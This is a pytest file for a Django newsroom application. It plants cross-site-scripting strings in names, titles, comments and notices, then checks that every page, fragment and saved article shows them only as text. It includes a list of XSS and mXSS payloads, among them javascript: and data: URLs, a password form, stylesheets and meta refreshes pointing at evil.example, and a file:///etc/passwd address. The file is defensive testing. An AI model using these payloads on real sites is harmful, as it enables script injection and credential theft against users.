"""Script in every field that people type: it is shown as what it is, words, on every page where it appears."""

from typing import Any

import pytest
from django.urls import reverse
from django.utils.html import escape

from masthead.accounts.models import Account
from masthead.approvals.models import Task, TaskState
from masthead.content import actions as content
from masthead.content.models import (
    AgendaLine,
    AlmanacEntry,
    Annotation,
    AnnotationReply,
    Block,
    BrandColour,
    Claim,
    Draft,
    HotSource,
    HotTopic,
    Material,
    MaterialFolder,
    PlanningSeries,
    Topic,
    TopicMaterial,
    Upload,
)
from masthead.content.testing import make_draft, make_ready_draft, make_topic, save_text
from masthead.notify import actions as notify
from masthead.notify.models import Notice
from masthead.org.models import Member, Unit
from masthead.publishing.models import Publication
from tests.attempts import forms
from tests.attempts.page import hostile_in
from tests.attempts.proof import browser

TAG, QUOTE = "<script>alert('茶')</script>", "\"><img src=x onerror=alert('茶')>"
PLANNED = [
    "content:topic_import", "content:planning", "content:planning_meeting", "content:series_edit", "content:meeting_planning", "content:experiments",
    "content:idea_topics", "content:topic_evaluate", "content:almanac", "content:almanac_entries", "content:almanac_entry", "content:hot",
    "content:hot_topic", "content:hot_sources", "content:hot_source", "content:planning_import", "publishing:calendar_day", "publishing:frequency",
    "publishing:slots", "publishing:moving",
]  # fmt: skip
KEPT = [
    "content:library", "content:material", "content:material_edit", "content:material_rights", "content:material_picker", "content:upload_queue",
    "content:upload", "content:licence_new", "content:consent_new", "publishing:material_publications", "content:blocks", "content:block",
    "content:brand_colours",
]  # fmt: skip
REVIEWED = [
    "content:draft_review", "content:draft_path", "content:annotations", "content:review_queue", "content:review_load", "content:claims",
    "content:claims_panel", "content:claim_register", "content:draft_declare", "content:assistant", "content:assistant_run",
    "content:revision_difference",
]  # fmt: skip
PAGES = [
    "web:home", "notify:notices", "notify:bell", "content:topics", "content:topic", "content:topic_edit", "content:drafts", "content:draft",
    "content:draft_edit", "content:draft_coauthors", "content:draft_release", "content:revisions", "content:draft_submit", "content:draft_new",
    "content:draft_preview", "content:revision_frame", "publishing:publications", "publishing:calendar", "publishing:schedule",
    "publishing:draft_publications", "publishing:publication_detail", "approvals:cases", "approvals:case", "org:members", "org:member",
    "org:group", "accounts:list", "accounts:detail", "analytics:ranking", "analytics:draft_figures", "rulebook:board", "compliance:rules",
    *PLANNED, *KEPT, *REVIEWED,
]  # fmt: skip


@pytest.fixture
def poisoned(scene: Any, db: None) -> dict[str, list[Any]]:
    """Script in the names of people, departments, accounts, in titles, bylines, digests, texts, reasons, comments and notices."""
    people = scene.cast.people
    lin, zhou, chen = people["lin"], people["zhou"], people["chen"]
    Member.objects.filter(pk=lin.pk).update(name=f"林{TAG}")
    Unit.objects.filter(pk=scene.cast.units["宣传部"].pk).update(name=f"宣传部{QUOTE}")
    Account.objects.filter(pk=scene.account.pk).update(
        name=f"云岭{TAG}", handle=QUOTE, connection_note=TAG, connection_advice=QUOTE
    )
    things = dict(scene.things)
    draft = Draft.objects.get(pk=things["draft"][0])
    Topic.objects.filter(pk=draft.topic_id).update(title=f"选题{TAG}", theme=QUOTE + TAG)
    revision = save_text(
        draft,
        lin,
        title=f"标题{TAG}",
        digest=QUOTE,
        html=f"<p>茶{TAG}</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        colour="navy",
    )
    things["revision"] = [revision.pk]
    save_text(draft, lin, title=f"标题{QUOTE}", digest=TAG, colour="olive")
    asked = make_ready_draft(lin, accounts=[scene.account], title=f"送审{QUOTE}", topic=draft.topic)
    content.submit_draft(draft=asked, by=lin)
    task = Task.objects.get(case__subject_id=asked.pk, state=TaskState.PENDING)
    browser(zhou).post(
        reverse("approvals:return", args=[task.pk]),
        {"hash_seen": task.case.content_hash, "reason": f"请改{TAG}{QUOTE}"},
    )
    content.submit_draft(draft=Draft.objects.get(pk=asked.pk), by=lin)
    _poison_the_room(things)
    things["case"], things["returned"] = [task.case_id], [asked.pk]
    Publication.objects.filter(pk=things["publication"][0]).update(
        title=f"发布{TAG}",
        state="failed",
        failure_message=TAG,
        failure_advice=QUOTE,
        article_url="https://mp.weixin.qq.com/s/a",
    )
    notify.tell(kind="approvals.result", members=[lin, chen], title=f"通知{TAG}", body=QUOTE, url="/")
    return things


def _poison_the_room(things: dict[str, list[Any]]) -> None:
    _poison_the_plans(things)
    _poison_the_shelves(things)


def _poison_the_plans(things: dict[str, list[Any]]) -> None:
    """Planning meetings and their lines, materials of topics, own dates, hot topics and their sources."""
    topic = things["topic_material"][0]
    Topic.objects.filter(pk=topic).update(title=f"选题{TAG}", theme=QUOTE + TAG, reason=TAG, origin_name=QUOTE)
    TopicMaterial.objects.update(name=f"素材{TAG}", note=QUOTE)
    PlanningSeries.objects.update(name=f"例会{TAG}", place=QUOTE)
    AgendaLine.objects.update(title=f"议题{TAG}", note=QUOTE, words=TAG)
    AlmanacEntry.objects.update(name=f"纪念日{TAG}", hint=QUOTE, caution=TAG)
    HotSource.objects.update(name=f"来源{TAG}"[:60], error=QUOTE)
    HotTopic.objects.update(
        title=f"热点{TAG}", origin=QUOTE, summary=TAG + QUOTE, risk_note=TAG, tags=[TAG], tag_line=f"|{TAG}|"
    )


def _poison_the_shelves(things: dict[str, list[Any]]) -> None:
    """Materials and their folders, uploads, blocks, colours, remarks, claims."""
    Material.objects.update(name=f"图{TAG}", note=QUOTE, source=TAG)
    MaterialFolder.objects.update(name=f"夹{TAG}"[:40])
    Upload.objects.update(name=f"{QUOTE}.mp4")
    Block.objects.update(name=f"{TAG}", html=f"<p>{escape(TAG)}</p>")
    BrandColour.objects.update(name="<b>茶</b>")
    Annotation.objects.update(body=f"意见{TAG}", replacement=QUOTE, quote=TAG, reason=QUOTE)
    AnnotationReply.objects.update(body=TAG)
    Claim.objects.update(quote=f"全国第一{TAG}", source_note=QUOTE, reason=TAG)


@pytest.mark.parametrize("who", ["lin", "chen", "zhou"])
def test_no_page_runs_what_somebody_typed(
    poisoned: dict[str, list[Any]], request: pytest.FixtureRequest, who: str
) -> None:
    from tests.matrix.table import SEEN_BY

    client, seen = browser(request.getfixturevalue(who)), 0
    for name in PAGES:
        answer = client.get(reverse(name, args=poisoned[SEEN_BY[name]] if SEEN_BY[name] else []))
        if answer.status_code != 200:
            continue
        html = answer.content.decode()
        assert hostile_in(html) == [], name
        assert TAG not in html and QUOTE not in html, name
        seen += "alert(" in html
    assert seen >= 20, "the words were really there, only harmless"


def test_the_trail_and_the_whole_list_of_accounts_show_words_only(
    poisoned: dict[str, list[Any]], auditor: Member, he: Member
) -> None:
    for member, name in (
        (auditor, "trail:events"),
        (auditor, "vault:secrets"),
        (he, "accounts:list"),
        (he, "org:members"),
        (he, "web:house"),
    ):
        html = browser(member).get(reverse(name)).content.decode()
        assert hostile_in(html) == [] and TAG not in html and QUOTE not in html, name


def test_a_fragment_for_htmx_is_as_harmless_as_the_page(
    poisoned: dict[str, list[Any]], zhou: Member, client_of: Any
) -> None:
    client = client_of(zhou, htmx=True)
    for name, args in (
        ("approvals:case", poisoned["case"]),
        ("approvals:cases", []),
        ("publishing:draft_publications", poisoned["draft"]),
    ):
        answer = client.get(reverse(name, args=args))
        assert hostile_in(answer.content.decode()) == [] and TAG not in answer.content.decode()
        assert all("\n" not in value and "<script" not in value for value in answer.headers.values())


@pytest.mark.parametrize(
    "name",
    ["content:drafts", "content:topics", "publishing:publications", "org:members", "accounts:list", "approvals:cases"],
)
def test_what_is_searched_for_comes_back_as_words(scene: Any, chen: Member, name: str) -> None:
    words = {"q": TAG + QUOTE, "state": QUOTE, "unit": TAG, "tab": TAG, "view": QUOTE, "cursor": TAG, "on": QUOTE}
    answer = browser(chen).get(reverse(name), words)

    assert answer.status_code in (200, 422)
    html = answer.content.decode()
    assert hostile_in(html) == [] and TAG not in html


HOSTILE_HTML = {
    "script": "<p>茶</p><script>alert(1)</script>",
    "event": '<p onclick="alert(1)" onmouseover=alert(1)>茶</p>',
    "picture": '<img src=x onerror=alert(1)><img src="javascript:alert(1)"><img src="https://evil.example/pixel.gif">',
    "link": '<a href="javascript:alert(1)">茶</a><a href="&#106;avascript:alert(1)">茶</a><a href="data:text/html,<script>alert(1)</script>">茶</a>',
    "svg": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>茶</text></a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">登录</button></form>',
    "style": '<style>@import "https://evil.example/x.css"</style><p style="background:url(https://evil.example/x);position:fixed">茶</p>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    "comment": '<p>茶</p><!--><script>alert(1)</script>--><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template><p>{{ request.user.password }}{% debug %}</p>",
}


@pytest.mark.parametrize("what", HOSTILE_HTML)
def test_hostile_article_html_is_cleaned_before_it_is_kept(lin: Member, draft_in: Any, what: str) -> None:
    draft = draft_in("draft")
    answer = browser(lin).post(
        reverse("content:draft_save", args=[draft.pk]), forms.text(draft, html=HOSTILE_HTML[what] + "<p>云雾茶</p>")
    )
    assert answer.status_code in (200, 302)

    kept = Draft.objects.select_related("revision").get(pk=draft.pk).revision
    assert kept is not None
    shown = browser(lin).get(reverse("content:revision_frame", args=[kept.pk])).content.decode()
    for html in (kept.html, shown):
        assert hostile_in(html) == []
        assert "evil.example" not in html and "javascript:" not in html and "position:fixed" not in html
    assert "云雾茶" in shown


@pytest.mark.parametrize("what", HOSTILE_HTML)
def test_hostile_html_in_unsaved_words_and_pasted_text_is_cleaned_too(lin: Member, draft_in: Any, what: str) -> None:
    draft, client = draft_in("draft"), browser(lin)
    body = forms.keystrokes(draft, html=HOSTILE_HTML[what])
    assert (
        client.post(
            reverse("content:draft_autosave", args=[draft.pk]), body, content_type="application/json"
        ).status_code
        == 200
    )

    pages = [
        client.get(reverse("content:draft_preview", args=[draft.pk])).content.decode(),
        client.get(reverse("content:draft_edit", args=[draft.pk])).content.decode(),
        client.post(reverse("content:paste_clean", args=[draft.pk]), {"html": HOSTILE_HTML[what]}).json()["html"],
        client.post(
            reverse("content:draft_check", args=[draft.pk]), {"title": TAG, "html": HOSTILE_HTML[what]}
        ).content.decode(),
    ]

    assert [hostile_in(html) for html in pages] == [[], [], [], []]


def test_an_article_is_framed_without_scripts_by_its_own_header(lin: Member, scene: Any) -> None:
    """Opened outside the frame it still runs nothing: the answer itself is sandboxed."""
    answer = browser(lin).get(reverse("content:revision_frame", args=scene.things["revision"]))

    policy = {
        part.split()[0]: part.split()[1:]
        for part in answer.headers["Content-Security-Policy"].split(";")
        if part.strip()
    }
    assert policy["default-src"] == ["'none'"] and "script-src" not in policy
    assert (
        policy["form-action"] == ["'none'"]
        and policy["base-uri"] == ["'none'"]
        and policy["frame-ancestors"] == ["'self'"]
    )
    assert policy["sandbox"] == ["allow-same-origin"]
    page = browser(lin).get(reverse("content:draft", args=scene.things["draft"])).content.decode()
    assert 'sandbox="allow-same-origin"' in page and "allow-scripts" not in page


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", 'x" onmouseover="alert(1)']
)
def test_a_source_address_that_is_no_web_address_is_refused(lin: Member, draft_in: Any, address: str) -> None:
    draft = draft_in("draft")

    answer = browser(lin).post(reverse("content:draft_save", args=[draft.pk]), forms.text(draft, source_url=address))

    assert answer.status_code == 422
    assert draft.revisions.count() == 1


@pytest.mark.parametrize("url", ["https://evil.example/", "//evil.example/", "javascript:alert(1)", "evil"])
def test_a_notice_never_leads_out_of_the_house(lin: Member, url: str) -> None:
    with pytest.raises(ValueError, match="page of this house"):
        notify.tell(kind="approvals.result", members=[lin], title="通知", url=url)
    assert not Notice.objects.filter(url=url).exists()


def test_template_language_in_a_title_is_not_evaluated(lin: Member, account: Account) -> None:
    draft = make_draft(lin, topic=make_topic(lin, accounts=[account], title="{{ 7|add:7 }}{% debug %}"))
    save_text(draft, lin, title="{{ 7|add:7 }}{% debug %}")

    html = browser(lin).get(reverse("content:draft", args=[draft.pk])).content.decode()

    assert "{{ 7|add:7 }}" in html
